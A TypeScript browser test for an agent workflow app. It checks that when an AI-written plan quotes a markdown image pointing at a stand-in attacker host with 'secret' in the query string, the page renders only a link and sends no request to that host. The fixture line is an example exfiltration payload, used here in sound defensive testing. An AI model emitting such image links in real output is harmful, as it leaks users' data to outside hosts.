import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { launchChromium } from "../support/browser";
import { useTestRuntime } from "../support/runtime";
import { createAtPlanGate } from "../support/workflows";

const fixture = useTestRuntime();
let browser: Browser;

beforeAll(async () => {
  browser = await launchChromium();
});
afterAll(() => browser?.close());

describe("agent text in the browser", { timeout: 60_000 }, () => {
  it("a plan quoting a remote image makes the page fetch nothing from that host", async () => {
    // The demo architect copies the issue's bullet lines into the plan's steps, as written.
    const workflow = await createAtPlanGate(fixture.api, {
      issueId: "LEAK-1",
      title: "Quote an image",
      description: "- ![x](https://evil.test/?d=secret)\n- Then do the work",
    });
    expect(workflow.plan).toContain("![x](https://evil.test/?d=secret)");

    const page = await browser.newPage();
    const requested: string[] = [];
    page.on("request", (request) => requested.push(request.url()));
    // Nothing may leave for evil.test; were it requested, it is recorded above and never sent.
    await page.route(/evil\.test/, (route) => route.abort());
    await page.goto(`${fixture.api.baseUrl}/workflows/${workflow.id}`);
    const plan = page.getByLabel("Plan", { exact: true });
    // The summary and the first step quote it.
    const links = plan.getByRole("link", { name: "Image: x" });
    await links.first().waitFor();
    for (const link of await links.all()) {
      expect(await link.getAttribute("href")).toBe("https://evil.test/?d=secret");
    }
    await page.waitForLoadState("networkidle");

    expect(await plan.locator("img").count()).toBe(0);
    expect(requested.filter((url) => new URL(url).hostname === "evil.test")).toEqual([]);
    // The page did load its own resources: the recorder saw them.
    expect(requested.some((url) => url.startsWith(fixture.api.baseUrl))).toBe(true);
    await page.close();
  });
});
